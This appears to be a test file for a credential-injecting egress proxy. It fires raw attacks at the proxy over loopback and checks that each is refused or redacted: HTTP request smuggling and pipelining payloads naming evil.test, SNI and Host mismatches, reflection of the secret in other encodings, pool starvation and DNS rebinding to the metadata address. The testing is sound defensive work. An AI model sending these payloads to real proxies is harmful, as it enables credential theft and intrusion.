// Attacks on credential injection from a sandbox that reads the proxy's source: smuggling and
// pipelining inside a terminated tunnel, absolute-form targets, SNI that differs from the
// CONNECT host, header spellings, an IP literal for the host, a redirect that quotes the secret,
// reflections in other encodings, a body compressed by its transfer coding, and one sandbox
// holding every pooled upstream connection so another's requests wait. Real sockets throughout:
// `api.test` is a loopback HTTPS host (certificate from a CA the runner trusts) that records
// each request's raw head and answers according to its path.
import { createServer as createHttpServer, type IncomingMessage, type ServerResponse } from 'node:http'
import { createServer as createHttpsServer } from 'node:https'
import type { AddressInfo } from 'node:net'
import { connect, createServer, type Server } from 'node:net'
import { connect as tlsConnect } from 'node:tls'
import { gzipSync } from 'node:zlib'
import pino from 'pino'
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'
import { EgressAllowlist } from '../../src/egress-allowlist.ts'
import { EgressCa } from '../../src/egress-ca.ts'
import { EgressCredentials } from '../../src/egress-credentials.ts'
import { type EgressOrigin, EgressProxy } from '../../src/egress-proxy.ts'
import { AddressScreen, tableResolver } from '../../src/egress-resolver.ts'
import { testCa } from '../egress/credential-servers.ts'
import { httpsViaProxy, openTunnel } from '../egress/proxy-client.ts'

const SECRET = 'Bearer sk-live/abc+def==0123456789'
const TOKEN = 'sk-live/abc+def==0123456789'
const BASIC_PASSWORD = 'hunter2-very-secret'
const BASIC = `Basic ${Buffer.from(`deploy:${BASIC_PASSWORD}`).toString('base64')}`

interface Seen {
  method: string
  url: string
  rawHeaders: string[]
}

let ca: EgressCa
let caB: EgressCa
let publicCa: EgressCa
const seen: Seen[] = []
/** Requests to /stall, held open until the test lets them go. */
const stalled: (() => void)[] = []
let apiPort = 0
/** Requests to /hold, answered when a test releases them. */
const held: (() => void)[] = []
/** Paths of /hold requests whose connection the proxy closed before they were answered. */
const holdsClosed = new Set<string>()
let plainServer: ReturnType<typeof createHttpServer>
let plainPort = 0
let apiServer: ReturnType<typeof createHttpsServer>
let basicServer: ReturnType<typeof createHttpsServer>
let basicPort = 0
let proxy: EgressProxy
const listeners: Server[] = []
/** The proxy's log lines. */
const logs: string[] = []

/** A loopback listener whose connections are sandbox `origin`'s relayed egress connections. */
async function sandboxPort(origin: EgressOrigin): Promise<number> {
  const server = createServer((socket) => proxy.accept(socket, origin))
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  listeners.push(server)
  return (server.address() as AddressInfo).port
}

let portA = 0
let portB = 0

beforeAll(async () => {
  publicCa = await testCa('publicca')
  const leaf = await publicCa.leaf('api.test')
  const handler = (req: IncomingMessage, res: ServerResponse): void => {
    seen.push({ method: req.method ?? '', url: req.url ?? '', rawHeaders: req.rawHeaders })
    const auth = req.headers.authorization ?? ''
    const path = req.url ?? '/'
    if (path.startsWith('/hold')) {
      held.push(() => res.end(`held ${path}`))
      res.once('close', () => {
        if (!res.writableEnded) holdsClosed.add(path)
      })
      return
    }
    if (path.startsWith('/stall')) {
      stalled.push(() => res.end('released'))
      return
    }
    if (path === '/redirect') {
      res.writeHead(302, { location: `https://other.test/next?auth=${encodeURIComponent(auth)}` })
      res.end()
      return
    }
    if (path === '/te-gzip') {
      res.writeHead(200, { 'transfer-encoding': 'gzip, chunked', 'content-type': 'text/plain' })
      res.end(gzipSync(`you sent ${auth}`))
      return
    }
    if (path === '/encodings') {
      const user = Buffer.from(auth.replace(/^Basic /, ''), 'base64').toString()
      res.end(
        [
          `form=${encodeURIComponent(auth)}`,
          `lower=${encodeURIComponent(auth).replace(/%[0-9A-F]{2}/g, (m) => m.toLowerCase())}`,
          `php=${JSON.stringify(auth).replaceAll('/', '\\/')}`,
          `decoded=${user}`,
        ].join('\n'),
      )
      return
    }
    res.end(JSON.stringify({ host: req.headers.host, auth }))
  }
  apiServer = createHttpsServer({ cert: leaf.cert, key: leaf.key }, handler)
  await new Promise<void>((resolve) => apiServer.listen(0, '127.0.0.1', resolve))
  apiPort = (apiServer.address() as AddressInfo).port
  const basicLeaf = await publicCa.leaf('basic.test')
  basicServer = createHttpsServer({ cert: basicLeaf.cert, key: basicLeaf.key }, handler)
  await new Promise<void>((resolve) => basicServer.listen(0, '127.0.0.1', resolve))
  basicPort = (basicServer.address() as AddressInfo).port
  plainServer = createHttpServer(handler)
  await new Promise<void>((resolve) => plainServer.listen(0, '127.0.0.1', resolve))
  plainPort = (plainServer.address() as AddressInfo).port
  const credentials = EgressCredentials.parse(
    JSON.stringify({
      api: { host: 'api.test', headers: { Authorization: SECRET } },
      basic: { host: 'basic.test', headers: { Authorization: BASIC } },
    }),
  )
  const allowlist = new EgressAllowlist([
    `api.test:${apiPort}`,
    `basic.test:${basicPort}`,
    `127.0.0.1:${apiPort}`,
    'other.test:443',
    `plain.test:${plainPort}`,
  ])
  ca = await EgressCa.create('sb_attacker1')
  caB = await EgressCa.create('sb_bystander')
  proxy = new EgressProxy({
    resolver: tableResolver({
      'api.test': ['127.0.0.1'],
      'basic.test': ['127.0.0.1'],
      'plain.test': ['127.0.0.1'],
    }),
    screen: new AddressScreen(['127.0.0.1/32']),
    logger: pino({ level: 'info' }, { write: (line: string) => void logs.push(line) }),
    upstreamCa: [publicCa.certPem],
  })
  portA = await sandboxPort({
    sandboxId: 'sb_attacker1',
    allowlist,
    injection: { credentials: credentials.resolve(['api', 'basic'], allowlist), ca },
  })
  portB = await sandboxPort({
    sandboxId: 'sb_bystander',
    allowlist,
    injection: { credentials: credentials.resolve(['api'], allowlist), ca: caB },
  })
})

afterAll(() => {
  for (const release of stalled) release()
  proxy.close()
  apiServer.close()
  basicServer.close()
  plainServer.close()
  for (const release of held) release()
  for (const l of listeners) l.close()
})

/** CONNECT to `authority`, TLS with `servername` trusting the sandbox CA, then raw `bytes`; resolves with all it got back. */
async function rawInTunnel(authority: string, bytes: string, servername = 'api.test'): Promise<string> {
  const tunnel = await openTunnel(portA, authority)
  if (!('socket' in tunnel)) throw new Error(`CONNECT refused: ${tunnel.status}`)
  const tls = tlsConnect({ socket: tunnel.socket, servername, ca: ca.certPem, rejectUnauthorized: false })
  return new Promise((resolve) => {
    let received = ''
    tls.on('secureConnect', () => tls.write(bytes))
    tls.on('data', (chunk: Buffer) => {
      received += chunk.toString('latin1')
    })
    tls.on('error', () => resolve(received))
    tls.on('close', () => resolve(received))
  })
}

describe('attack: steer the secret inside a terminated tunnel', () => {
  it('refuses Content-Length with Transfer-Encoding and relays neither request', async () => {
    const before = seen.length
    const reply = await rawInTunnel(
      `api.test:${apiPort}`,
      'POST /a HTTP/1.1\r\nHost: api.test\r\nContent-Length: 44\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: evil.test\r\n\r\n',
    )
    expect(reply).not.toContain('sk-live')
    expect(seen.slice(before).map((s) => s.url)).toEqual([])
  })

  it('relays pipelined requests one by one, each with the credential host and no smuggled Host', async () => {
    const before = seen.length
    const reply = await rawInTunnel(
      `api.test:${apiPort}`,
      'GET /one HTTP/1.1\r\nHost: evil.test\r\n\r\nGET /two HTTP/1.1\r\nhost: evil.test\r\nconnection: close\r\n\r\n',
    )
    const mine = seen.slice(before)
    expect(mine.map((s) => s.url)).toEqual(['/one', '/two'])
    for (const s of mine) {
      const hosts = s.rawHeaders.filter((_v, i) => i % 2 === 0 && s.rawHeaders[i]?.toLowerCase() === 'host')
      expect(hosts).toHaveLength(1)
      expect(s.rawHeaders[s.rawHeaders.findIndex((h) => h.toLowerCase() === 'host') + 1]).toBe(
        `api.test:${apiPort}`,
      )
    }
    expect(reply).not.toContain('sk-live')
  })

  it('refuses an absolute-form target inside the tunnel and sends nothing', async () => {
    const before = seen.length
    const reply = await rawInTunnel(
      `api.test:${apiPort}`,
      'GET https://evil.test/x HTTP/1.1\r\nHost: evil.test\r\nconnection: close\r\n\r\n',
    )
    expect(reply).toMatch(/^HTTP\/1\.1 400/)
    expect(seen.length).toBe(before)
  })

  it('sends one Authorization, the operator’s, whatever the sandbox’s spelling or count', async () => {
    const before = seen.length
    await rawInTunnel(
      `api.test:${apiPort}`,
      'GET /h HTTP/1.1\r\nHost: api.test\r\nAUTHORIZATION: Bearer mine\r\nauthorization: Bearer two\r\nAuthorization:\t Bearer three \r\nconnection: close\r\n\r\n',
    )
    const s = seen[before]
    const auths = (s?.rawHeaders ?? []).filter(
      (_v, i, all) => i % 2 === 1 && all[i - 1]?.toLowerCase() === 'authorization',
    )
    expect(auths).toEqual([SECRET])
  })

  it('ignores an SNI other than the CONNECT host: the leaf and the request are the CONNECT host’s', async () => {
    const before = seen.length
    const reply = await rawInTunnel(
      `api.test:${apiPort}`,
      'GET /sni HTTP/1.1\r\nHost: evil.test\r\nconnection: close\r\n\r\n',
      'evil.test',
    )
    expect(seen[before]?.rawHeaders).toContain(`api.test:${apiPort}`)
    expect(reply).not.toContain('sk-live')
  })

  it('never terminates a CONNECT to the host’s IP literal: a plain tunnel, no credential', async () => {
    const before = seen.length
    const tunnel = await openTunnel(portA, `127.0.0.1:${apiPort}`)
    if (!('socket' in tunnel)) throw new Error(`CONNECT refused: ${tunnel.status}`)
    // The TLS handshake verifies against the real host's CA: the proxy did not step in.
    const tls = tlsConnect({ socket: tunnel.socket, servername: 'api.test', ca: publicCa.certPem })
    await new Promise<void>((resolve, reject) => {
      tls.once('secureConnect', resolve)
      tls.once('error', reject)
    })
    tls.end('GET /ip HTTP/1.1\r\nhost: api.test\r\nconnection: close\r\n\r\n')
    await new Promise((resolve) => tls.on('close', resolve).resume())
    expect(seen[before]?.url).toBe('/ip')
    expect(seen[before]?.rawHeaders.map((h) => h.toLowerCase())).not.toContain('authorization')
  })
})

describe('attack: get the secret back in another form', () => {
  it('finds it redacted in a redirect’s Location, in any encoding there', async () => {
    const r = await httpsViaProxy(portA, `api.test:${apiPort}`, { ca: ca.certPem, path: '/redirect' })
    expect(r.status).toBe(302)
    expect(String(r.headers.location)).not.toContain('sk-live')
    expect(String(r.headers.location)).toContain('[redacted]')
  })

  it('finds it redacted percent-encoded, JSON-escaped, and a Basic credential decoded', async () => {
    const bearer = await httpsViaProxy(portA, `api.test:${apiPort}`, { ca: ca.certPem, path: '/encodings' })
    expect(bearer.status).toBe(200)
    expect(bearer.body).not.toContain('sk-live')
    expect(bearer.body).not.toContain(encodeURIComponent(TOKEN))
    const basic = await httpsViaProxy(portA, `basic.test:${basicPort}`, {
      ca: ca.certPem,
      path: '/encodings',
    })
    expect(basic.status).toBe(200)
    expect(basic.body).not.toContain(BASIC_PASSWORD)
  })

  it('refuses a body compressed by its transfer coding, which the proxy could not scan', async () => {
    const r = await httpsViaProxy(portA, `api.test:${apiPort}`, { ca: ca.certPem, path: '/te-gzip' })
    expect(r.status).toBe(502)
    expect(r.body).toContain('gzip')
    expect(r.body).not.toContain('sk-live')
  })
})

describe('attack: starve another sandbox of its credentialed host', () => {
  it('answers sandbox B while sandbox A holds 70 requests open to the same host', async () => {
    const held = Array.from({ length: 70 }, (_v, i) =>
      httpsViaProxy(portA, `api.test:${apiPort}`, { ca: ca.certPem, path: `/stall/${i}` }),
    )
    // Once the host holds 64 of them (a pool of 64 would now be full), B asks.
    await vi.waitFor(() => expect(stalled.length).toBeGreaterThanOrEqual(64), {
      timeout: 60_000,
      interval: 20,
    })
    const b = await httpsViaProxy(portB, `api.test:${apiPort}`, { ca: caB.certPem, path: '/bystander' })
    expect(JSON.parse(b.body)).toEqual({ host: `api.test:${apiPort}`, auth: '[redacted]' })
    for (const release of stalled.splice(0)) release()
    await Promise.all(held)
  })
})

describe('attack: one counted connection, many upstream requests at once', () => {
  /** Waits until the host holds `n` requests, then checks it holds no more once they are answered one by one. */
  async function drainInOrder(n: number, reply: () => string): Promise<void> {
    for (let i = 0; i < n; i++) {
      await vi.waitFor(() => expect(held.length).toBeGreaterThan(0), { timeout: 30_000, interval: 10 })
      // Only one request of the connection is ever at the host.
      expect(held.length).toBe(1)
      held.shift()?.()
      await vi.waitFor(() => expect(reply().split('held /hold/').length - 1).toBe(i + 1), {
        timeout: 30_000,
        interval: 10,
      })
    }
  }

  it('relays pipelined requests in a terminated tunnel one at a time', async () => {
    const tunnel = await openTunnel(portA, `api.test:${apiPort}`)
    if (!('socket' in tunnel)) throw new Error(`CONNECT refused: ${tunnel.status}`)
    const tls = tlsConnect({ socket: tunnel.socket, servername: 'api.test', ca: ca.certPem })
    let reply = ''
    tls.on('data', (chunk: Buffer) => {
      reply += chunk.toString('latin1')
    })
    await new Promise((resolve) => tls.once('secureConnect', resolve))
    tls.write(
      Array.from({ length: 20 }, (_v, i) => `GET /hold/t${i} HTTP/1.1\r\nhost: api.test\r\n\r\n`).join(''),
    )
    await drainInOrder(20, () => reply)
    expect(reply.match(/held \/hold\/t\d+/g)).toEqual(
      Array.from({ length: 20 }, (_v, i) => `held /hold/t${i}`),
    )
    tls.destroy()
  })

  it('relays pipelined plain-HTTP proxy requests one at a time', async () => {
    const socket = connect(portA, '127.0.0.1')
    let reply = ''
    socket.on('data', (chunk: Buffer) => {
      reply += chunk.toString('latin1')
    })
    await new Promise((resolve) => socket.once('connect', resolve))
    socket.write(
      Array.from(
        { length: 20 },
        (_v, i) => `GET http://plain.test:${plainPort}/hold/p${i} HTTP/1.1\r\nhost: plain.test\r\n\r\n`,
      ).join(''),
    )
    await drainInOrder(20, () => reply)
    expect(reply.match(/held \/hold\/p\d+/g)).toEqual(
      Array.from({ length: 20 }, (_v, i) => `held /hold/p${i}`),
    )
    socket.destroy()
  })
})

describe('attack: read a program’s own secrets in the runner’s log', () => {
  it('logs a refused URL with its credential-like query values redacted', async () => {
    const socket = connect(portA, '127.0.0.1')
    socket.end(
      'GET http://unlisted.test/cb?api_key=program-secret-1&code=program-secret-2&page=3 HTTP/1.1\r\nhost: unlisted.test\r\n\r\n',
    )
    await new Promise((resolve) => socket.on('close', resolve).resume())
    const refused = logs.find((l) => l.includes('unlisted.test'))
    expect(refused).toContain('api_key=[redacted]&code=[redacted]&page=3')
    expect(logs.join('\n')).not.toContain('program-secret')
  })
})

describe('attack: rebind the credential host’s name after the check', () => {
  it('resolves once per tunnel: requests inside go to the checked address, a new tunnel is screened again', async () => {
    // The name answers loopback (permitted here) once, then the metadata address.
    let calls = 0
    const rebinding = {
      async resolve(): Promise<string[]> {
        calls += 1
        return calls === 1 ? ['127.0.0.1'] : ['169.254.169.254']
      },
    }
    const allowlist = new EgressAllowlist([`api.test:${apiPort}`])
    const credentials = EgressCredentials.parse(
      JSON.stringify({ api: { host: 'api.test', headers: { Authorization: SECRET } } }),
    )
    const rebindProxy = new EgressProxy({
      resolver: rebinding,
      screen: new AddressScreen(['127.0.0.1/32']),
      logger: pino({ level: 'silent' }),
      upstreamCa: [publicCa.certPem],
    })
    const server = createServer((socket) =>
      rebindProxy.accept(socket, {
        sandboxId: 'sb_rebinder1',
        allowlist,
        injection: { credentials: credentials.resolve(['api'], allowlist), ca },
      }),
    )
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
    listeners.push(server)
    const port = (server.address() as AddressInfo).port
    const before = seen.length
    const tunnel = await openTunnel(port, `api.test:${apiPort}`)
    if (!('socket' in tunnel)) throw new Error(`CONNECT refused: ${tunnel.status}`)
    const tls = tlsConnect({ socket: tunnel.socket, servername: 'api.test', ca: ca.certPem })
    await new Promise((resolve) => tls.once('secureConnect', resolve))
    tls.write(
      ['/r1', '/r2', '/r3']
        .map((p, i) => `GET ${p} HTTP/1.1\r\nhost: api.test\r\n${i === 2 ? 'connection: close\r\n' : ''}\r\n`)
        .join(''),
    )
    await new Promise((resolve) => tls.on('close', resolve).resume())
    expect(seen.slice(before).map((r) => r.url)).toEqual(['/r1', '/r2', '/r3'])
    expect(calls).toBe(1)
    // The next tunnel resolves again, gets the metadata address, and is refused before any byte.
    const again = await openTunnel(port, `api.test:${apiPort}`)
    expect('status' in again ? again.status : 200).toBe(403)
    rebindProxy.close()
  })
})

describe('attack: hang up before the host answers', () => {
  /**
   * Sends a request for `path` on `socket`, waits until the host holds it, hangs up, waits until
   * the proxy has ended the exchange with the host, then lets the host answer.
   */
  async function hangUp(
    socket: import('node:net').Socket | import('node:tls').TLSSocket,
    head: string,
    path: string,
  ): Promise<void> {
    const heldBefore = held.length
    socket.write(head)
    await vi.waitFor(() => expect(held.length).toBe(heldBefore + 1), { timeout: 30_000, interval: 10 })
    socket.destroy()
    // Before the fix the proxy kept the host's exchange open and piped its late answer into the
    // closed client, which threw out of the runner.
    await vi.waitFor(() => expect(holdsClosed.has(path)).toBe(true), { timeout: 30_000, interval: 10 })
    held.pop()?.()
  }

  it('leaves the proxy serving, in a terminated tunnel and over plain HTTP', async () => {
    const tunnel = await openTunnel(portA, `api.test:${apiPort}`)
    if (!('socket' in tunnel)) throw new Error(`CONNECT refused: ${tunnel.status}`)
    const tls = tlsConnect({ socket: tunnel.socket, servername: 'api.test', ca: ca.certPem })
    await new Promise((resolve) => tls.once('secureConnect', resolve))
    await hangUp(tls, 'GET /hold/gone-tls HTTP/1.1\r\nhost: api.test\r\n\r\n', '/hold/gone-tls')
    const plain = connect(portA, '127.0.0.1')
    await new Promise((resolve) => plain.once('connect', resolve))
    await hangUp(
      plain,
      `GET http://plain.test:${plainPort}/hold/gone-plain HTTP/1.1\r\nhost: plain.test\r\n\r\n`,
      '/hold/gone-plain',
    )
    // Still serving (an uncaught error would have ended the process, and this test run).
    const r = await httpsViaProxy(portA, `api.test:${apiPort}`, { ca: ca.certPem, path: '/after' })
    expect(r.status).toBe(200)
  })
})
